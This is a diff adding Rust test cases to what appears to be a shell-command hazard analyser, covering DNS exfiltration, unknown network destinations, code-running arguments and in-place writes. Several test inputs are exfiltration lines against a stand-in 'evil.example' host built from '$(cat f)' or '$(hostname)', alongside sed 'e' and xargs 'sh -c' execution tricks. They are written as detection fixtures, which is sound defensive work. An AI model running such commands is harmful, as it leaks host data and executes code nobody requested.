@@ -2167,6 +2167,44 @@ t!(
     [H(HazardKind::DnsExfiltration)]
 );
 t!(dns_literal_ok, "nslookup example.com", [NoH]);
+// Issue 35: an expansion where a URL or host may stand is an unknown destination, not
+// a host built from data.
+t!(
+    dns_array_operand_unknown,
+    "curl https://api.example.com/v1/x \"${HEADERS[@]}\"",
+    [
+        NoH,
+        Net("https://api.example.com/v1/x"),
+        Net("${HEADERS[@]}")
+    ]
+);
+t!(dns_url_var_unknown, "curl -fsSL \"$URL\"", [NoH]);
+t!(
+    dns_url_host_var_unknown,
+    "curl \"https://${HOST}:8443/v1\"",
+    [NoH]
+);
+t!(dns_lookup_var_unknown, "dig \"$HOST\"", [NoH]);
+t!(
+    dns_userinfo_var_unknown,
+    "curl \"https://user:$TOKEN@example.com/\"",
+    [NoH]
+);
+t!(
+    dns_url_braced_suffix,
+    "curl \"http://${x}.evil.example/\"",
+    [H(HazardKind::DnsExfiltration)]
+);
+t!(
+    dns_url_sub_in_host,
+    "wget http://$(cat f).evil.example/",
+    [H(HazardKind::DnsExfiltration)]
+);
+t!(
+    dns_lookup_sub_whole,
+    "nslookup $(hostname)",
+    [H(HazardKind::DnsExfiltration)]
+);
 
 // ---------------------------------------------------------------------------------
 // Privilege.
@@ -3009,4 +3047,43 @@ t!(
     acc_npm_prefix_value,
     "npm --prefix web run build",
     [Own("npm"), NoDy]
+);
+
+// Issue 35: code-running arguments the analysis sees through are still executing
+// arguments (asked), and their text is analyzed too.
+t!(
+    x_sed_e_known_command,
+    "sed -n '1e id' README.md",
+    [X("sed", "e"), Sh("id")]
+);
+t!(
+    x_xargs_literal_input_is_code,
+    "echo id | xargs -I{} sh -c '{}'",
+    [X("sh", "stdin")]
+);
+t!(
+    x_rg_pre_known_program,
+    "rg --pre=cat foo",
+    [X("rg", "--pre")]
+);
+t!(
+    x_rg_hostname_bin_known_program,
+    "rg --hostname-bin whoami foo",
+    [X("rg", "--hostname-bin")]
+);
+// Issue 35 (soundness harness): what really gets written.
+t!(
+    sed_in_place_backup,
+    "sed -i.bak 's/a/b/' f.txt",
+    [W(&["f.txt", "f.txt.bak"])]
+);
+t!(
+    sed_in_place_backup_star,
+    "sed --in-place='old_*' 's/a/b/' d/f.txt",
+    [W(&["d/f.txt", "d/old_f.txt"])]
+);
+t!(
+    mktemp_template_dir,
+    "mktemp ./build/tmp.XXXXXX",
+    [W(&["./build"])]
 );
